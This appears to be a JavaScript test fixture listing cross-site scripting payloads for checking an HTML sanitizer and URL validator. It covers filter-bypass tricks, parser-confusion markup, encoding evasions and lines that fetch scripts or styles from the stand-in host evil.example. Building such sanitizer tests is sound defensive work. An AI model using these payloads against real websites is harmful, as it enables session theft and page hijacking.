// What people try to slip into a page, by kind. Each would set `__xss`, open a dialog or ask evil.example for something.
const RUN = 'window.__xss=1';
const URL_RUN = `javascript:${RUN}`;

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src=//evil.example/x.js></script>`,
  `<script/src=data:,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<script x>${RUN}</script y>`,
  `<<script>${RUN}//<</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</p></div></article><script>${RUN}</script>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
  `<script>${RUN}`,
];

const HANDLERS = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img src='x' onerror='${RUN}'>`,
  `<img/src/onerror=${RUN}>`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img src=x:x onerror\n=${RUN}>`,
  `<img src=x onerror=&#119;indow.__xss=1>`,
  `<img \x0conerror=${RUN} src=x>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<p onmouseover=${RUN}>x</p>`,
  `<a href=# onclick=${RUN}>x</a>`,
  `<p style=animation:x onanimationstart=${RUN}>x</p>`,
  `<div popover id=x onbeforetoggle=${RUN}>x</div><button popovertarget=x>x</button>`,
  `<xss contenteditable autofocus tabindex=1 onfocus=${RUN}>x</xss>`,
  `<object data=x onerror=${RUN}></object>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
];

const URLS = [
  `<a href="${URL_RUN}">x</a>`,
  `<a href="JaVaScRiPt:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="java&#10;script:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href=" \x01${URL_RUN}">x</a>`,
  `<a href="javascript&colon;${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="//evil.example/">x</a>`,
  `<a href="/\\evil.example/">x</a>`,
  `<a href="view-source:${URL_RUN}">x</a>`,
  `<a href="https://a.example/" ping="//evil.example/" target=_top>x</a>`,
  `<form action="${URL_RUN}"><button>x</button></form>`,
  `<button formaction="${URL_RUN}">x</button>`,
  `<iframe src="${URL_RUN}"></iframe>`,
  `<embed src="${URL_RUN}">`,
  `<object data="${URL_RUN}"></object>`,
  `<base href="//evil.example/">`,
  `<area href="${URL_RUN}">`,
  `<blockquote cite="${URL_RUN}">x</blockquote>`,
];

const FRAMES_AND_META = [
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe>`,
  `<iframe src="//evil.example/"></iframe>`,
  `<frameset onload=${RUN}>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=${URL_RUN}">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<link rel=import href="//evil.example/x.html">`,
  `<img src="//evil.example/x.png">`,
  `<input type=image src="//evil.example/x.png">`,
  `<video poster="//evil.example/x.png"></video>`,
];

const STYLES = [
  `<style>@import "//evil.example/x.css";</style>`,
  `<style>body{background:url(//evil.example/x)}</style>`,
  `<p style="background:url(//evil.example/x)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
  `<p style="width:expression(${RUN})">x</p>`,
  `<style>*{x:'</style><img src=x onerror=${RUN}>'}</style>`,
];

const SVG_AND_MATH = [
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"></script></svg>`,
  `<svg><a xlink:href="${URL_RUN}"><text y=9>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x">`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href="${URL_RUN}">x</math>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<table><td><svg><desc><td><img src=x onerror=${RUN}>`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<title><p title="</title><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
];

const BREAKOUTS = [
  `" onmouseover="${RUN}`,
  `' onmouseover='${RUN}`,
  `" autofocus onfocus=${RUN} x="`,
  `\`onerror=${RUN}\``,
  `"/><img src=x onerror=${RUN}>`,
  `]]><script>${RUN}</script>`,
  `]]></description><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `</script><script>${RUN}</script>`,
  `","x":"</script><svg onload=${RUN}>`,
  `\\"-${RUN}//`,
  `\u2028${RUN}\u2029`,
  `*/${RUN}/*`,
];

const TEMPLATES = [
  '{{constructor.constructor("window.__xss=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to be read as it stands
  '${window.__xss=1}',
  '#{window.__xss=1}',
  '<%= window.__xss=1 %>',
  '{{title}} {{count}} {{- title}}',
  '$t(staff:news) $t(common:nav.home)',
  '{site}/__xss',
  '[[7*7]] @(7*7) {%7*7%}',
];

const ENCODINGS = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<\u200bscript>${RUN}</script>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u202e<img src=x onerror=${RUN}>`,
  `<img src=x onerror=\u0009${RUN}>`,
  `<ſcript>${RUN}</ſcript>`,
  `<img src=x onerror=\\u0077indow.__xss=1>`,
];

export const XSS_PAYLOADS = [
  ...SCRIPTS,
  ...HANDLERS,
  ...URLS,
  ...FRAMES_AND_META,
  ...STYLES,
  ...SVG_AND_MATH,
  ...BREAKOUTS,
  ...TEMPLATES,
  ...ENCODINGS,
];

/** Addresses that are good enough for the form and bad in the wrong place. */
export const XSS_URLS = [
  `https://evil.example/"onmouseover="${RUN}`,
  `https://evil.example/'onmouseover='${RUN}`,
  `https://evil.example/"><img/src=x/onerror=${RUN}>`,
  `https://evil.example/#${URL_RUN}`,
  `https://evil.example/?</script><script>${RUN}</script>`,
  'HTTPS://evil.example/`{{url}}',
];

/** Addresses the form has to refuse. */
export const REFUSED_URLS = [
  URL_RUN,
  ` ${URL_RUN}`,
  `java\nscript:${RUN}//https://a.example`,
  `data:text/html,<script>${RUN}</script>`,
  `//evil.example/`,
  `${URL_RUN}//https://a.example/`,
  'https://',
];
